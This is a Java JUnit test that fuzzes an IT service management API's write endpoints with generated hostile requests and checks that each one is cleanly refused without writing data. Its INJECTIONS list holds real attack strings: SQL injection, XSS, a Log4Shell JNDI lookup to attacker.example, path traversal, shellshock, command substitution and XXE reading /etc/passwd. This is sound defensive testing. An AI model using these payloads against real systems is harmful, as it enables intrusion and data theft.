package org.itsmflow.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.itsmflow.support.PostgresTest;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import org.springframework.web.util.UriUtils;

/**
 * Hostile and bad input: well over 1,000 generated requests (seeded {@link Random}, so a failure replays) against
 * every write endpoint under {@code /api} — the list comes from Spring's handler mapping at test time, so endpoints
 * added later are attacked too. Invalid JSON, wrong types, missing and extra fields, 1 MB bodies and 100k-character
 * strings, deep nesting, invalid UTF-8, unicode edge cases (NUL, lone surrogates, RTL overrides, emoji, combining
 * marks), SQL/script/template/path injection in fields and path ids, wrong content types, bad Idempotency-Keys, and
 * other people's records (kate using lee's incident or name). Every answer must be a 4xx
 * {@code application/problem+json} with a detail naming the problem; no 5xx; and no table may gain a row (the API
 * audit log excepted: it records refused writes by design). The figures are printed for the CI log.
 */
@PostgresTest
class HostileInputTest {

    static final long SEED = 20261127L;
    static final int MIN_TOTAL = 1000;
    static final int MIN_PER_ENDPOINT = 100;

    /** A write endpoint, who attacks it (a user allowed to call it, so the body is really read) and its base body. */
    record Target(String method, String pattern, String user, String base, String pathValue) {
        String key() {
            return method + " " + pattern;
        }
    }

    /**
     * Base bodies: well-formed, but naming something that does not exist (or a stale version), so even the base
     * is refused with a 4xx and writes nothing — every mutation must be refused too. A new write endpoint gets "{}"
     * and the demo administrator until it is added here.
     */
    static final Map<String, Target> TARGETS = Map.ofEntries(
            Map.entry("POST /api/incidents", new Target("POST", "/api/incidents", "sara", """
                    {"title": "Hostile probe", "description": "d", "serviceId": "no-such-service", "ciId": "APP-ERP",
                     "category": "software", "impact": "LOW", "urgency": "LOW"}""", null)),
            Map.entry("POST /api/complaints", new Target("POST", "/api/complaints", "kate", """
                    {"title": "Hostile probe", "description": "d", "severity": "LOW", "serviceId": "no-such-service"}""",
                    null)),
            Map.entry("POST /api/changes", new Target("POST", "/api/changes", "chris", """
                    {"title": "Hostile probe", "description": "d", "reason": "probe", "changeType": "NORMAL",
                     "urgency": "LOW", "affectedCiIds": ["NO-SUCH-CI"], "plannedStart": "2031-01-01T00:00:00Z",
                     "plannedEnd": "2031-01-01T01:00:00Z", "implementationPlan": "none", "backoutPlan": "none",
                     "costEstimate": 0, "businessBenefit": "none"}""", null)),
            Map.entry("POST /api/problems", new Target("POST", "/api/problems", "tom", """
                    {"title": "Hostile probe", "description": "d", "serviceId": "no-such-service", "ciId": "APP-ERP",
                     "category": "software", "impact": "LOW", "urgency": "LOW", "incidentIds": []}""", null)),
            Map.entry("POST /api/cis", new Target("POST", "/api/cis", "carl", """
                    {"id": "HOSTILE-PROBE", "name": "Hostile probe", "typeId": "NO-SUCH-TYPE", "location": "x",
                     "ownerGroup": "secondline", "attributes": {"k": "v"}, "reason": "probe"}""", null)),
            Map.entry("PUT /api/cis/{id}", new Target("PUT", "/api/cis/{id}", "carl", """
                    {"expectedVersion": 999999, "name": "Hostile probe", "location": "x", "attributes": {"k": "v"},
                     "reason": "probe"}""", "VM-HR-DB-01")),
            Map.entry("POST /api/cis/{id}/relationships", new Target("POST", "/api/cis/{id}/relationships", "carl", """
                    {"type": "RUNS_ON", "targetCiId": "NO-SUCH-CI", "reason": "probe"}""", "VM-HR-DB-01")),
            Map.entry("POST /api/service-reviews", new Target("POST", "/api/service-reviews", "olivia", """
                    {"customerId": "no-such-customer", "serviceId": "erp"}""", null)),
            Map.entry("POST /api/surveys/{token}", new Target("POST", "/api/surveys/{token}", null, """
                    {"score": 3, "comment": "fine"}""", "no-such-token")),
            Map.entry("POST /api/releases", new Target("POST", "/api/releases", "rita", """
                    {"title": "Hostile probe", "description": "d", "releaseType": "MINOR",
                     "plannedDate": "2031-01-01T00:00:00Z",
                     "deliverables": [{"name": "probe.jar", "version": "1", "location": "probe/probe.jar",
                       "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                       "ciId": "APP-ERP"}],
                     "changeIds": ["CHG-999999"], "knownErrorIds": [], "problemIds": [],
                     "targetCiIds": ["APP-ERP"], "sites": ["fra", "ams"]}""", null)),
            Map.entry("POST /api/audit-programmes", new Target("POST", "/api/audit-programmes", "ada", """
                    {"name": "Hostile probe", "processArea": "no-such-area", "criteria": "R-8.2a",
                     "method": "sample", "frequency": "P6M", "firstDue": "2031-01-01T00:00:00Z"}""", null)),
            Map.entry("POST /api/audits", new Target("POST", "/api/audits", "ada", """
                    {"programmeId": "APG-999999", "leadAuditor": "ada"}""", null)),
            Map.entry("POST /api/improvements", new Target("POST", "/api/improvements", "sara", """
                    {"source": "NO-SUCH-SOURCE", "sourceRef": "INC-000001", "serviceId": "email",
                     "title": "Hostile probe", "description": "d", "priority": "LOW"}""", null)),
            Map.entry("POST /api/improvements/{id}/assessment", new Target("POST", "/api/improvements/{id}/assessment",
                    "olivia", """
                    {"assessment": "Hostile probe", "priority": "HIGH", "owner": "olivia",
                     "targetDate": "2031-01-01"}""", "SIP-999999")),
            Map.entry("POST /api/improvements/{id}/authorisation", new Target("POST",
                    "/api/improvements/{id}/authorisation", "olivia", """
                    {"approved": false, "note": "Hostile probe"}""", "SIP-999999")),
            Map.entry("POST /api/improvements/{id}/status", new Target("POST", "/api/improvements/{id}/status",
                    "olivia", """
                    {"status": "IN_PROGRESS", "note": "Hostile probe"}""", "SIP-999999")),
            Map.entry("POST /api/reports/runs", new Target("POST", "/api/reports/runs", "olivia", """
                    {"from": "2026-10-01", "to": "2026-11-01"}""", null)));

    /**
     * Query strings of the targets: the reporting run takes its period from the query, not the body, so every
     * attack carries an empty period (refused after the role check) and a mutation can never start a real run.
     */
    static final Map<String, String> QUERIES = Map.of("POST /api/reports/runs", "?from=2031-02-01&to=2031-01-01");

    /**
     * The field that makes each base body fail (the unknown reference, the stale version): "wrong type" and
     * "missing fields" leave it alone, else a mutation could turn the base into a valid request.
     */
    static final Map<String, String> POISON = Map.ofEntries(
            Map.entry("POST /api/incidents", "serviceId"), Map.entry("POST /api/complaints", "serviceId"),
            Map.entry("POST /api/changes", "affectedCiIds"), Map.entry("POST /api/problems", "serviceId"),
            Map.entry("POST /api/cis", "typeId"), Map.entry("PUT /api/cis/{id}", "expectedVersion"),
            Map.entry("POST /api/cis/{id}/relationships", "targetCiId"),
            Map.entry("POST /api/service-reviews", "customerId"), Map.entry("POST /api/releases", "changeIds"),
            Map.entry("POST /api/audit-programmes", "processArea"), Map.entry("POST /api/audits", "programmeId"),
            Map.entry("POST /api/improvements", "source"));

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE incident; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(0) --",
            "erp' UNION SELECT password_ FROM act_id_user --", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "javascript:alert(1)", "${7*7}", "#{7*7}", "{{7*7}}",
            "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "%n%s%x",
            "() { :; }; echo vulnerable", "$(touch /tmp/pwned)", "`id`", "\\", "'", "\"", "*", "%", "_",
            "<!--#exec cmd=\"ls\"-->", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>");
    static final List<String> UNICODE = List.of(
            "a\u0000b", "\u0000", "\ud800", "x\udc00y", "\udbff", "\u202eevil\u202c", "\u200f\u05e9\u05dc\u05d5\u05dd",
            "\ud83d\udca5\ud83d\udd25", "e\u0301\u0301\u0301\u0301\u0301\u0301", "\ufeffBOM", "\uffff", "\ufffe",
            "\u0007bell", "line\u2028sep", "\u00a0", "Z\u0351\u0358\u0354\u036a\u0363a\u035c\u0341l\u0334g\u035do",
            "\u1f60\u0000", "\u001b[31mred");
    static final List<String> WRONG_VALUES = List.of("123", "-1", "2147483648", "1e309", "true", "false", "null",
            "[]", "[1,2]", "{}", "{\"a\":{\"b\":[]}}", "\"\"", "\"   \"", "\"not-a-value\"", "0.5", "-0", "\"2031-13-45\"");

    @Autowired
    TestRestTemplate http;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    ObjectMapper json;
    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    final Map<String, Integer> byStatus = new TreeMap<>();
    final Map<String, Integer> byEndpoint = new TreeMap<>();
    final Map<String, Integer> byKind = new TreeMap<>();
    final List<String> failures = new ArrayList<>();
    int tried;
    int serverErrors;
    int notProblems;

    @Test
    @DisplayName("Hostile input: 1,000+ generated bad requests to every write endpoint, all 4xx problem+json, no 5xx, no row written")
    void hostileRequestsAreRefusedCleanly() throws Exception {
        // someone else's record to misuse: lee's incident
        String leesIncident = leesIncident();
        String otherCustomer = customerKateIsNoContactOf();

        Map<String, Long> before = TableRows.count(jdbc);
        List<Target> targets = writeEndpoints();
        int perEndpoint = Math.max(MIN_PER_ENDPOINT, MIN_TOTAL / targets.size() + 1);
        Random random = new Random(SEED);
        for (Target target : targets) {
            for (int i = 0; i < perEndpoint; i++) {
                attack(target, random);
            }
        }
        othersRecords(leesIncident, otherCustomer);
        Map<String, Long> written = TableRows.written(before, TableRows.count(jdbc));
        long rowsWritten = written.values().stream().mapToLong(Math::abs).sum();
        int fourXx = byStatus.entrySet().stream().filter(e -> e.getKey().startsWith("4")).mapToInt(Map.Entry::getValue).sum();
        System.out.println("""

                ==== HOSTILE INPUT FIGURES ====
                requests tried:          %d (seed %d, %d write endpoints)
                4xx answers:             %d  by status %s
                5xx answers:             %d
                answers not problem+json or naming nothing: %d
                rows written by bad requests: %d %s
                requests per endpoint:   %s
                requests per kind:       %s
                ===============================
                """.formatted(tried, SEED, targets.size(), fourXx, byStatus, serverErrors, notProblems, rowsWritten,
                written, byEndpoint, byKind));
        assertThat(failures).as("bad answers (first 30)").isEmpty();
        assertThat(tried).isGreaterThanOrEqualTo(MIN_TOTAL);
        assertThat(serverErrors).isZero();
        assertThat(written).as("tables that gained or lost rows").isEmpty();
    }

    /** Every non-GET endpoint under /api the application serves. */
    List<Target> writeEndpoints() {
        Map<String, Target> found = new TreeMap<>();
        for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
            for (String pattern : info.getPatternValues()) {
                if (!pattern.startsWith("/api/")) {
                    continue;
                }
                info.getMethodsCondition().getMethods().forEach(m -> {
                    if (m.name().equals("GET")) {
                        return;
                    }
                    String key = m.name() + " " + pattern;
                    found.put(key, TARGETS.getOrDefault(key, new Target(m.name(), pattern, "demo", "{}", "NO-SUCH-ID")));
                });
            }
        }
        assertThat(found).as("write endpoints").isNotEmpty();
        return new ArrayList<>(found.values());
    }

    void attack(Target target, Random random) throws Exception {
        String pathValue = target.pathValue();
        String contentType = MediaType.APPLICATION_JSON_VALUE;
        String idempotencyKey = null;
        byte[] body;
        ObjectNode base = (ObjectNode) json.readTree(target.base());
        List<String> fields = new ArrayList<>();
        base.fieldNames().forEachRemaining(fields::add);
        String field = fields.isEmpty() ? "title" : fields.get(random.nextInt(fields.size()));
        List<String> harmless = new ArrayList<>(fields);
        harmless.remove(POISON.get(target.key()));
        String harmlessField = harmless.isEmpty() ? "x" : harmless.get(random.nextInt(harmless.size()));
        int kind = random.nextInt(12);
        String kindName;
        switch (kind) {
            case 0 -> {
                kindName = "invalid JSON";
                String text = target.base();
                body = switch (random.nextInt(8)) {
                    case 0 -> text.substring(0, 1 + random.nextInt(Math.max(1, text.length() - 2))).getBytes(StandardCharsets.UTF_8);
                    case 1 -> (text + "}}").getBytes(StandardCharsets.UTF_8);
                    case 2 -> text.replace('"', '\'').getBytes(StandardCharsets.UTF_8);
                    case 3 -> ("{" + field + ": 1}").getBytes(StandardCharsets.UTF_8);
                    case 4 -> text.replaceFirst(":", "::").getBytes(StandardCharsets.UTF_8);
                    case 5 -> "{\"a\": NaN, }".getBytes(StandardCharsets.UTF_8);
                    case 6 -> "// comment\n{}".getBytes(StandardCharsets.UTF_8);
                    default -> "{\"title\": \"unterminated".getBytes(StandardCharsets.UTF_8);
                };
            }
            case 1 -> {
                kindName = "wrong type";
                ObjectNode copy = base.deepCopy();
                copy.set(harmlessField, json.readTree(WRONG_VALUES.get(random.nextInt(WRONG_VALUES.size()))));
                body = json.writeValueAsBytes(copy);
            }
            case 2 -> {
                kindName = "missing fields";
                ObjectNode copy = base.deepCopy();
                int remove = 1 + random.nextInt(Math.max(1, harmless.size()));
                for (int r = 0; r < remove && !harmless.isEmpty(); r++) {
                    copy.remove(harmless.get(random.nextInt(harmless.size())));
                }
                body = json.writeValueAsBytes(copy);
            }
            case 3 -> {
                kindName = "extra field";
                ObjectNode copy = base.deepCopy();
                String name = random.nextBoolean() ? "isAdmin" : random.nextBoolean() ? "id" : "x" + random.nextInt(1000);
                if (copy.has(name)) {
                    name = "__proto__";
                }
                copy.set(name, json.readTree(WRONG_VALUES.get(random.nextInt(WRONG_VALUES.size()))));
                body = json.writeValueAsBytes(copy);
            }
            case 4 -> {
                if (random.nextInt(3) == 0) {
                    kindName = "1 MB body";
                    ObjectNode copy = base.deepCopy();
                    copy.put(field, "A".repeat(1_048_576));
                    body = json.writeValueAsBytes(copy);
                } else {
                    kindName = "100k string";
                    ObjectNode copy = base.deepCopy();
                    copy.put(field, "\u00e9".repeat(100_000));
                    body = json.writeValueAsBytes(copy);
                }
            }
            case 5 -> {
                kindName = "unicode edge";
                ObjectNode copy = base.deepCopy();
                copy.put(field, UNICODE.get(random.nextInt(UNICODE.size())));
                body = json.writeValueAsBytes(copy);
            }
            case 6 -> {
                kindName = "injection in a field";
                ObjectNode copy = base.deepCopy();
                copy.put(field, INJECTIONS.get(random.nextInt(INJECTIONS.size())));
                body = json.writeValueAsBytes(copy);
            }
            case 7 -> {
                kindName = "wrong content";
                switch (random.nextInt(6)) {
                    case 0 -> {
                        contentType = MediaType.TEXT_PLAIN_VALUE;
                        body = target.base().getBytes(StandardCharsets.UTF_8);
                    }
                    case 1 -> {
                        contentType = MediaType.APPLICATION_XML_VALUE;
                        body = "<incident><title>x</title></incident>".getBytes(StandardCharsets.UTF_8);
                    }
                    case 2 -> body = new byte[0];
                    case 3 -> body = "[]".getBytes(StandardCharsets.UTF_8);
                    case 4 -> body = "\"just a string\"".getBytes(StandardCharsets.UTF_8);
                    default -> {
                        contentType = MediaType.APPLICATION_FORM_URLENCODED_VALUE;
                        body = target.base().getBytes(StandardCharsets.UTF_8);
                    }
                }
            }
            case 8 -> {
                kindName = "hostile path id";
                body = target.base().getBytes(StandardCharsets.UTF_8);
                if (pathValue == null) {
                    ObjectNode copy = base.deepCopy();
                    copy.put(field, INJECTIONS.get(random.nextInt(INJECTIONS.size())));
                    body = json.writeValueAsBytes(copy);
                } else {
                    List<String> hostile = new ArrayList<>(INJECTIONS);
                    hostile.addAll(List.of("X".repeat(2000), "\u202e\ud83d\udca5", "..", ".", "%2e%2e", " ", "a/b"));
                    pathValue = hostile.get(random.nextInt(hostile.size()));
                }
            }
            case 9 -> {
                kindName = "invalid UTF-8";
                byte[] text = target.base().getBytes(StandardCharsets.UTF_8);
                int at = Math.max(1, text.length / 2);
                byte[] bad = switch (random.nextInt(4)) {
                    case 0 -> new byte[] {(byte) 0xC3, (byte) 0x28};
                    case 1 -> new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80};
                    case 2 -> new byte[] {(byte) 0xFF, (byte) 0xFE};
                    default -> new byte[] {(byte) 0xC0, (byte) 0xAF};
                };
                String s = target.base();
                int quote = s.indexOf(": \"");
                if (quote > 0) {
                    at = s.substring(0, quote + 3).getBytes(StandardCharsets.UTF_8).length;
                }
                body = new byte[text.length + bad.length];
                System.arraycopy(text, 0, body, 0, at);
                System.arraycopy(bad, 0, body, at, bad.length);
                System.arraycopy(text, at, body, at + bad.length, text.length - at);
            }
            case 10 -> {
                kindName = "deep nesting";
                int depth = 2000 + random.nextInt(20000);
                ObjectNode copy = base.deepCopy();
                String nested = "[".repeat(depth) + "]".repeat(depth);
                String text = json.writeValueAsString(copy);
                body = (text.substring(0, text.length() - 1) + ", \"" + field + "\": " + nested + "}")
                        .getBytes(StandardCharsets.UTF_8);
            }
            default -> {
                kindName = "bad Idempotency-Key";
                body = target.base().getBytes(StandardCharsets.UTF_8);
                idempotencyKey = switch (random.nextInt(4)) {
                    case 0 -> "k".repeat(201);
                    case 1 -> "with space";
                    case 2 -> "\u00fcber";
                    default -> " ";
                };
                if (!target.method().equals("POST")) {
                    ObjectNode copy = base.deepCopy();
                    copy.remove(field);
                    copy.put("unknownField", 1);
                    body = json.writeValueAsBytes(copy);
                }
            }
        }
        send(target, target.user(), pathValue, contentType, idempotencyKey, body, kindName);
    }

    void send(Target target, String user, String pathValue, String contentType, String idempotencyKey, byte[] body,
            String kindName) throws Exception {
        String path = target.pattern();
        Matcher var = Pattern.compile("\\{[^}]+}").matcher(path);
        if (var.find()) {
            path = var.replaceAll(Matcher.quoteReplacement(UriUtils.encodePathSegment(
                    pathValue == null ? "NO-SUCH-ID" : pathValue, StandardCharsets.UTF_8)));
        }
        path += QUERIES.getOrDefault(target.key(), "");
        HttpHeaders headers = new HttpHeaders();
        headers.set(HttpHeaders.CONTENT_TYPE, contentType);
        if (idempotencyKey != null) {
            headers.set("Idempotency-Key", new String(idempotencyKey.getBytes(StandardCharsets.UTF_8),
                    StandardCharsets.ISO_8859_1));
        }
        TestRestTemplate client = user == null ? http : http.withBasicAuth(user, user);
        ResponseEntity<String> response = client.exchange(URI.create(http.getRootUri() + path),
                HttpMethod.valueOf(target.method()), new HttpEntity<>(body, headers), String.class);
        tried++;
        byEndpoint.merge(target.key(), 1, Integer::sum);
        byKind.merge(kindName, 1, Integer::sum);
        int status = response.getStatusCode().value();
        byStatus.merge(String.valueOf(status), 1, Integer::sum);
        String sample = new String(body, 0, Math.min(body.length, 160), StandardCharsets.UTF_8);
        String what = target.key() + " [" + kindName + "] as " + user + " path=" + path.substring(0, Math.min(path.length(), 80))
                + " -> " + status + " " + abbreviate(response.getBody()) + " | sent " + sample;
        if (status >= 500) {
            serverErrors++;
        }
        boolean problem = response.getHeaders().getContentType() != null
                && response.getHeaders().getContentType().isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON);
        String detail = null;
        if (problem) {
            try {
                JsonNode node = json.readTree(response.getBody());
                detail = node.path("detail").asText(null);
                if (node.path("status").asInt() != status) {
                    detail = null;
                }
            } catch (Exception e) {
                detail = null;
            }
        }
        if (!problem || detail == null || detail.isBlank()) {
            notProblems++;
        }
        if ((status < 400 || status >= 500 || !problem || detail == null || detail.isBlank()) && failures.size() < 30) {
            failures.add(what);
        }
    }

    /** kate (a customer) tries to use lee's incident and lee's name, and to act where customers may not. */
    void othersRecords(String leesIncident, String otherCustomer) throws Exception {
        Target complaints = TARGETS.get("POST /api/complaints");
        Target incidents = TARGETS.get("POST /api/incidents");
        List<String> complaintBodies = new ArrayList<>(List.of(
                "{\"title\": \"t\", \"description\": \"d\", \"severity\": \"LOW\", \"incidentId\": \"" + leesIncident + "\"}",
                "{\"title\": \"t\", \"description\": \"d\", \"severity\": \"LOW\", \"raisedBy\": \"lee\"}",
                "{\"title\": \"t\", \"description\": \"d\", \"severity\": \"LOW\", \"raisedBy\": \"lee\", \"incidentId\": \""
                        + leesIncident + "\"}"));
        if (otherCustomer != null) {
            complaintBodies.add("{\"title\": \"t\", \"description\": \"d\", \"severity\": \"LOW\", \"customerId\": \""
                    + otherCustomer + "\"}");
        }
        for (String b : complaintBodies) {
            send(complaints, "kate", null, MediaType.APPLICATION_JSON_VALUE, null, b.getBytes(StandardCharsets.UTF_8),
                    "other people's records");
        }
        send(incidents, "kate", null, MediaType.APPLICATION_JSON_VALUE, null, """
                {"title": "In lee's name", "serviceId": "email", "category": "software", "impact": "LOW",
                 "urgency": "LOW", "reportedBy": "lee"}""".getBytes(StandardCharsets.UTF_8), "other people's records");
        Target change = TARGETS.get("POST /api/changes");
        send(change, "kate", null, MediaType.APPLICATION_JSON_VALUE, null,
                change.base().replace("NO-SUCH-CI", "DB-ERP-TEST").getBytes(StandardCharsets.UTF_8),
                "other people's records");
        Target update = TARGETS.get("PUT /api/cis/{id}");
        send(update, "kate", "VM-HR-DB-01", MediaType.APPLICATION_JSON_VALUE, null,
                "{\"expectedVersion\": 1, \"location\": \"mine now\"}".getBytes(StandardCharsets.UTF_8),
                "other people's records");
    }

    String leesIncident() throws Exception {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_JSON);
        ResponseEntity<String> response = http.withBasicAuth("lee", "lee").exchange("/api/incidents", HttpMethod.POST,
                new HttpEntity<>("""
                        {"title": "Lee's own incident", "serviceId": "email", "category": "software", "impact": "LOW",
                         "urgency": "LOW"}""", headers), String.class);
        assertThat(response.getStatusCode().value()).as(response.getBody()).isEqualTo(201);
        return response.getHeaders().getLocation().getPath().replaceAll(".*/", "");
    }

    String customerKateIsNoContactOf() throws Exception {
        ResponseEntity<String> response = http.withBasicAuth("sara", "sara").getForEntity("/api/customers", String.class);
        for (JsonNode customer : json.readTree(response.getBody())) {
            if (!customer.toString().contains("\"kate\"")) {
                return customer.path("id").asText(null);
            }
        }
        return null;
    }

    static String abbreviate(String text) {
        if (text == null) {
            return "(no body)";
        }
        return text.length() <= 300 ? text : text.substring(0, 300) + "…";
    }

    static <T> Iterator<T> unused(Iterator<T> it) {
        return it;
    }
}
